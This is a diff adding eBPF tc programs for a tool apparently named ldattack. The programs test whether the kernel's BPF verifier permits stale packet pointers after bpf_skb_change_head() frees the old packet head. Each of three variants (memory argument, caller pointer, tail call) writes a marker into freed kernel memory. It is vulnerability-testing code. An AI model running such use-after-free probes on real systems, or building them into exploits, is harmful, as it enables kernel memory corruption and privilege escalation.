@@ -1,0 +1,137 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * The BPF programs of ldattack's bpf-global-mem-arg (attack_pkt.c): tc
+ * programs run with BPF_PROG_TEST_RUN, each loaded alone, each with a
+ * global subprogram, which the verifier checks on its own, not as called.
+ * bpf_skb_change_head() past the headroom makes pskb_expand_head() copy
+ * the packet to a new head and kfree() the old one; a packet pointer from
+ * before must end there. None asks a reason:
+ *   mem_arg   the subprogram is handed the packet's first word as a plain
+ *             pointer argument (memory of 8 bytes, to it), changes the
+ *             head itself, then reads and writes through the argument
+ *   caller    the caller keeps its own packet pointer across a global
+ *             subprogram that changes the head (refused from Linux 6.13,
+ *             and by the stable kernels that took its fix)
+ *   tail      the caller keeps its packet pointer across a static
+ *             subprogram whose tail call runs a program that changes the
+ *             head (gm_target): the target's exit returns to the caller
+ *             (refused from Linux 6.14, and by the stable kernels that
+ *             took its fix)
+ * Each reads the word the pointer now points at, writes a mark there,
+ * reads it back, looks for the mark in the packet as it now is, and puts
+ * the word back: the mark read back and not in the packet is a write to
+ * the freed head.
+ */
+#include <linux/bpf.h>
+#include <bpf/bpf_helpers.h>
+
+char LICENSE[] SEC("license") = "GPL";
+
+/* past the 64 bytes or so of headroom BPF_PROG_TEST_RUN gives a packet */
+#define GM_GROW 512
+
+/* "ldpgmarg" */
+#define GM_MARK 0x6772616d67706c64ULL
+
+/* what the programs saw (.bss, read by ldattack) */
+__u64 gm_before;	/* the first word, before the change */
+__u64 gm_stale;		/* what the pointer read after it */
+__u64 gm_back;		/* the mark, read back through the pointer */
+__u64 gm_in_packet;	/* 1: the mark is in the packet as it now is */
+__u64 gm_ran;
+
+/*
+ * After the change, through @p: read, mark, read back, look for the mark
+ * where the packet's first word now is (GM_GROW on), put the word back.
+ */
+static __always_inline void gm_touch(struct __sk_buff *skb, __u64 *p)
+{
+	void *data, *end;
+
+	gm_stale = *p;
+	*p = GM_MARK;
+	gm_back = *p;
+	data = (void *)(long)skb->data;
+	end = (void *)(long)skb->data_end;
+	if (data + GM_GROW + sizeof(__u64) <= end)
+		gm_in_packet = *(__u64 *)(data + GM_GROW) == GM_MARK ||
+			       *(__u64 *)data == GM_MARK;
+	*p = gm_stale;
+	gm_ran = 1;
+}
+
+__attribute__((noinline)) int gm_sub(struct __sk_buff *skb, __u64 *p)
+{
+	if (!p)
+		return 1;
+	gm_before = *p;
+	if (bpf_skb_change_head(skb, GM_GROW, 0))
+		return 1;
+	gm_touch(skb, p);
+	return 0;
+}
+
+SEC("tc")
+int mem_arg(struct __sk_buff *skb)
+{
+	__u64 *data = (void *)(long)skb->data;
+
+	if ((void *)(data + 1) > (void *)(long)skb->data_end)
+		return 0;
+	gm_sub(skb, data);
+	return 0;
+}
+
+__attribute__((noinline)) int gm_grow(struct __sk_buff *skb)
+{
+	return bpf_skb_change_head(skb, GM_GROW, 0);
+}
+
+SEC("tc")
+int caller(struct __sk_buff *skb)
+{
+	__u64 *data = (void *)(long)skb->data;
+
+	if ((void *)(data + 1) > (void *)(long)skb->data_end)
+		return 0;
+	gm_before = *data;
+	if (gm_grow(skb))
+		return 0;
+	gm_touch(skb, data);
+	return 0;
+}
+
+/* tail's program array: gm_target, set by ldattack */
+struct {
+	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
+	__uint(max_entries, 1);
+	__type(key, __u32);
+	__type(value, __u32);
+} gm_progs SEC(".maps");
+
+SEC("tc")
+int gm_target(struct __sk_buff *skb)
+{
+	bpf_skb_change_head(skb, GM_GROW, 0);
+	return 0;
+}
+
+/* its frame is the target's; the target's exit returns to tail */
+static __attribute__((noinline)) int gm_tail_call(struct __sk_buff *skb)
+{
+	bpf_tail_call(skb, &gm_progs, 0);
+	return 0;
+}
+
+SEC("tc")
+int tail(struct __sk_buff *skb)
+{
+	__u64 *data = (void *)(long)skb->data;
+
+	if ((void *)(data + 1) > (void *)(long)skb->data_end)
+		return 0;
+	gm_before = *data;
+	gm_tail_call(skb);
+	gm_touch(skb, data);
+	return 0;
+}
